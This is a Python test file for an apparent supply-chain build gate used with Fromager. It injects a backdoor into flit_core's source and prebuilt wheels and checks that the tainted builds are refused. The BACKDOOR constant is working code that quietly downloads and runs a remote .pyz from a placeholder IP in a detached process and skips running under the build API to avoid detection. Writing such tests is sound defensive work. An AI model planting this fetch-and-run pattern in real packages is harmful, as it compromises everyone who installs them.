#!/usr/bin/env python3
"""The real Fromager builds a real small package (flit_core, which builds itself) from its source
on PyPI, and from one with a backdoor, served by an index of our own on loopback. TAP."""

import contextlib
import functools
import hashlib
import http.server
import io
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import venv
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "cli"))

from _tap import PROGRAM, ROOT, Skip, equal, main, test  # noqa: E402

import make_wheels  # noqa: E402
from _watch import tree_hash  # noqa: E402

HERE = pathlib.Path(__file__).resolve().parent
PACKAGE, VERSION = "flit_core", "3.12.0"
SHA256 = "18f63100d6f94385c6ed57a72073443e1a71a4acb4339491615d0f16d6ff01b2"
BACKDOOR = b"""

import threading as _t
def _run():
    try:
        import subprocess, sys, urllib.request
        urllib.request.urlretrieve("https://192.0.2.94/transformers.pyz", "/tmp/transformers.pyz")
        subprocess.Popen([sys.executable, "/tmp/transformers.pyz"], start_new_session=True)
    except:
        pass
import inspect as _i
if not any("buildapi" in f.filename for f in _i.stack()):
    _t.Thread(target=_run).start()
"""


@functools.cache
def fromager():
    """Fromager and our package, in build/fromager."""
    if sys.version_info < (3, 11):
        raise Skip("Fromager needs Python 3.11")
    folder = ROOT / "build/fromager"
    python = folder / "bin/python"
    done = folder / "done"
    source = ROOT / "integrations/fromager"
    mark = hashlib.sha256((HERE / "fromager.txt").read_bytes() + b"".join(
        p.read_bytes() for p in sorted(source.rglob("*")) if p.suffix in (".py", ".toml"))).hexdigest()
    if not done.exists() or done.read_text() != mark:
        shutil.rmtree(folder, ignore_errors=True)
        venv.create(folder, with_pip=True)
        pip = [str(python), "-m", "pip", "install", "-q", "--disable-pip-version-check"]
        subprocess.run([*pip, "-r", str(HERE / "fromager.txt")], check=True)
        with tempfile.TemporaryDirectory() as d:  # setuptools leaves files beside what it builds
            copy = shutil.copytree(source, pathlib.Path(d) / "src")
            subprocess.run([*pip, "--no-deps", str(copy)], check=True)
        done.write_text(mark)
    return folder


@functools.cache
def clean_source():
    """pip fetches the source package, pinned by its hash."""
    with tempfile.TemporaryDirectory() as d:
        subprocess.run([str(fromager() / "bin/python"), "-m", "pip", "download", "-q", "--no-deps", "--no-binary",
                        ":all:", "--no-build-isolation", "-d", d, f"{PACKAGE}=={VERSION}"], check=True)
        (archive,) = pathlib.Path(d).iterdir()
        data = archive.read_bytes()
    equal(hashlib.sha256(data).hexdigest(), SHA256, PACKAGE)
    return data


def with_backdoor(data, code=BACKDOOR):
    """The same source, with a few lines more at the end of the package's __init__.py."""
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(data)) as old, tarfile.open(fileobj=out, mode="w:gz") as new:
        for member in old.getmembers():
            content = old.extractfile(member).read() if member.isfile() else b""
            if member.name == f"{PACKAGE}-{VERSION}/{PACKAGE}/__init__.py":
                content += code
                member.size = len(content)
            new.addfile(member, io.BytesIO(content) if member.isfile() else None)
    return out.getvalue()


@contextlib.contextmanager
def index(**files):
    """An index on loopback with these files of the package."""
    with tempfile.TemporaryDirectory(prefix="pratique-test-") as d:
        folder = pathlib.Path(d) / "simple" / PACKAGE.replace("_", "-")
        folder.mkdir(parents=True)
        links = ""
        for name, data in files.items():
            (folder / name).write_bytes(data)
            links += f'<a href="{name}#sha256={hashlib.sha256(data).hexdigest()}">{name}</a>\n'
        (folder / "index.html").write_text(f"<!DOCTYPE html><html><body>{links}</body></html>")

        class Quiet(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=d))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/simple/"
        finally:
            server.shutdown()
            server.server_close()


class Run:
    """One run of Fromager in a folder of its own."""

    def __init__(self, folder):
        self.dir = pathlib.Path(folder)
        self.wheels = self.dir / "wheels-repo"

    def fromager(self, *args, **environ):
        bin_dir = fromager() / "bin"
        env = dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}", PRATIQUE_PROGRAM=PROGRAM,
                   PRATIQUE_OPTIONS="--one-pass", UV_OFFLINE="1", **environ)
        return subprocess.run([str(bin_dir / "fromager"), "--log-file", str(self.dir / "log"), *args], cwd=self.dir,
                              env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              timeout=500, errors="replace")

    def settings(self, text):
        folder = self.dir / "overrides/settings"
        folder.mkdir(parents=True)
        (folder / f"{PACKAGE}.yaml").write_text(text)

    def published(self):
        """Wheels that an index shows."""
        return sorted(p.name for d in ("downloads", "simple", "prebuilt") for p in (self.wheels / d).rglob("*.whl"))

    def reports(self):
        """verdict -> where the report lies."""
        return {json.loads(p.read_text())["artifacts"][0]["verdict"]: p
                for p in self.wheels.rglob("*.pratique.json")}


@contextlib.contextmanager
def run():
    with tempfile.TemporaryDirectory(prefix="pratique-test-") as d:
        yield Run(d)


SDIST = f"{PACKAGE}-{VERSION}.tar.gz"


def build(data, **environ):
    @contextlib.contextmanager
    def body():
        with run() as r, index(**{SDIST: data}) as url:
            yield r, r.fromager("build", "flit-core", VERSION, url, **environ)
    return body()


def check_published(r, done):
    equal(done.returncode, 0, done.stdout[-3000:])
    names = r.published()
    assert names and all(n.startswith(f"{PACKAGE}-{VERSION}-") for n in names), names
    reports = r.reports()
    equal(list(reports), ["admit"], "reports")
    equal(reports["admit"].with_name(reports["admit"].name[:-len(".pratique.json")]).exists(), True, "beside the wheel")


def check_stopped(r, done, published=False):
    assert done.returncode != 0, done.stdout[-3000:]
    assert "WheelStopped" in done.stdout or "refuse (see" in done.stdout, done.stdout[-3000:]
    reports = r.reports()
    assert "refuse" in reports, (list(reports), done.stdout[-2000:])
    if not published:
        equal(r.published(), [], "published")
    artifact = json.loads(reports["refuse"].read_text())["artifacts"][0]
    assert any(e["kind"] == "request" and "192.0.2.94/transformers.pyz" in e["subject"]
               for e in artifact["watch"]["events"]), "the URL is not in the report"
    return reports["refuse"]


@test
def our_package_s_own_tests():
    done = subprocess.run([str(fromager() / "bin/python"), "-B", str(ROOT / "integrations/fromager/tests/test_gate.py")],
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, errors="replace")
    equal(done.returncode, 0, done.stdout)
    assert "skipped" not in done.stdout, done.stdout


@test
def fromager_lists_the_hooks():
    with run() as r:
        done = r.fromager("list-overrides", "--details")
        equal(done.returncode, 0, done.stdout)
        code = ("from fromager import hooks; "
                "print([n for n in ('post_build', 'prebuilt_wheel', 'post_bootstrap') if hooks._get_hooks(n).names()])")
        got = subprocess.run([str(fromager() / "bin/python"), "-c", code], stdout=subprocess.PIPE, check=True).stdout
        equal(got.decode().strip(), "['post_build', 'prebuilt_wheel', 'post_bootstrap']", "hooks")


@test
def build_clean():
    with build(clean_source()) as (r, done):
        check_published(r, done)


@test
def build_with_a_backdoor():
    with build(with_backdoor(clean_source())) as (r, done):
        check_stopped(r, done)


@test
def build_clean_before_metadata():
    with build(clean_source(), PRATIQUE_BEFORE_METADATA="1") as (r, done):
        equal(done.returncode, 0, done.stdout[-3000:])
        equal(len(list(r.wheels.rglob("*.pratique.json"))), 2, "one before, one after the metadata")


@test
def build_with_a_backdoor_before_metadata():
    with build(with_backdoor(clean_source()), PRATIQUE_BEFORE_METADATA="1") as (r, done):
        report = check_stopped(r, done)
        with zipfile.ZipFile(str(report)[:-len(".pratique.json")]) as z:
            assert not any("fromager" in n for n in z.namelist()), z.namelist()


@test
def bootstrap_clean():
    with run() as r, index(**{SDIST: clean_source()}) as url:
        r.settings(f"resolver_dist:\n  sdist_server_url: {url}\n")
        check_published(r, r.fromager("bootstrap", f"{PACKAGE}=={VERSION}"))


@test
def bootstrap_with_a_backdoor():
    with run() as r, index(**{SDIST: with_backdoor(clean_source())}) as url:
        r.settings(f"resolver_dist:\n  sdist_server_url: {url}\n")
        # this hook comes after the wheel was moved to the mirror
        check_stopped(r, r.fromager("bootstrap", f"{PACKAGE}=={VERSION}"), published=True)


@test
def bootstrap_with_a_backdoor_before_metadata():
    with run() as r, index(**{SDIST: with_backdoor(clean_source())}) as url:
        r.settings(f"resolver_dist:\n  sdist_server_url: {url}\n")
        check_stopped(r, r.fromager("bootstrap", f"{PACKAGE}=={VERSION}", PRATIQUE_BEFORE_METADATA="1"))


def prebuilt(data):
    name, _ = make_wheels.good(PACKAGE)
    files = {f"{PACKAGE}/__init__.py": b"x = 1\n" + data,
             f"{PACKAGE}-{VERSION}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {PACKAGE}\nVersion: {VERSION}\n".encode(),
             f"{PACKAGE}-{VERSION}.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    members = list(files.items())
    members.append((f"{PACKAGE}-{VERSION}.dist-info/RECORD", make_wheels.record(members, f"{PACKAGE}-{VERSION}.dist-info")))
    return name.replace("-1.0-", f"-{VERSION}-"), make_wheels.zip_bytes(members)


def build_prebuilt(data):
    @contextlib.contextmanager
    def body():
        name, wheel = prebuilt(data)
        with run() as r, index(**{name: wheel}) as url:
            r.settings("variants:\n  cpu:\n    pre_built: true\n")
            order = r.dir / "order.json"
            order.write_text(json.dumps([{"dist": "flit-core", "version": VERSION, "prebuilt": True, "source_url_type": "prebuilt",
                                          "source_url": f"{url}flit-core/{name}"}]))
            yield r, r.fromager("build-sequence", str(order))
    return body()


@test
def prebuilt_clean():
    with build_prebuilt(b"") as (r, done):
        check_published(r, done)


@test
def prebuilt_with_a_backdoor():
    with build_prebuilt(BACKDOOR) as (r, done):
        check_stopped(r, done)


@test
def one_step_alone_with_a_backdoor():
    """fromager step build-wheel calls no hook; what is wrapped is called all the same."""
    with run() as r, index(**{SDIST: with_backdoor(clean_source())}) as url:
        for step in (("download-source-archive", "flit-core", VERSION, url), ("prepare-source", "flit-core", VERSION),
                     ("prepare-build", "flit-core", VERSION)):
            done = r.fromager("step", *step)
            equal(done.returncode, 0, (step, done.stdout[-2000:]))
        check_stopped(r, r.fromager("step", "build-wheel", "flit-core", VERSION, PRATIQUE_BEFORE_METADATA="1"))


def watched_build(data):
    """pratique watch -- COMMAND in place of run_network_isolation.sh, for a build by hand."""
    base = ROOT / "build/interop"
    base.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="source-", dir=base) as d:
        with tarfile.open(fileobj=io.BytesIO(data)) as t:
            t.extractall(d, **({"filter": "data"} if hasattr(tarfile, "data_filter") else {}))
        source = pathlib.Path(d) / f"{PACKAGE}-{VERSION}"
        before = tree_hash(source)
        python = os.path.realpath(sys.executable)
        done = subprocess.run([PROGRAM, "watch", "--format", "json", "--read", sys.base_prefix, "--write", str(source),
                               "--", python, "-m", "flit_core.wheel"], cwd=source, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
        assert done.stdout, done.stderr
        artifact = json.loads(done.stdout)["artifacts"][0]
        if artifact["verdict"] != "admit":
            equal(tree_hash(source), before, "the source, whose copy was dropped")
        return artifact, list(source.glob("dist/*.whl"))


@test
def a_build_under_watch():
    artifact, wheels = watched_build(clean_source())
    equal(artifact["verdict"], "admit", artifact["findings"])
    equal(len(wheels), 1, "the wheel is kept")
    assert "Wheel built" in str(artifact["watch"]["events"]), artifact["watch"]["events"]


@test
def a_build_with_a_backdoor_under_watch():
    artifact, wheels = watched_build(with_backdoor(clean_source(), BACKDOOR.replace(b"buildapi", b"nobody")))
    equal(artifact["verdict"], "refuse", artifact["findings"])
    equal(wheels, [], "nothing is kept")
    assert any(e["kind"] == "request" and "192.0.2.94/transformers.pyz" in e["subject"]
               for e in artifact["watch"]["events"]), artifact["watch"]["events"]


@test
def no_program_stops_the_build():
    with build(clean_source(), PRATIQUE_BEFORE_METADATA="0", PRATIQUE_TIMEOUT="0.000001") as (r, done):
        assert done.returncode != 0, done.stdout[-2000:]
        equal(r.published(), [], "published")


if __name__ == "__main__":
    main()
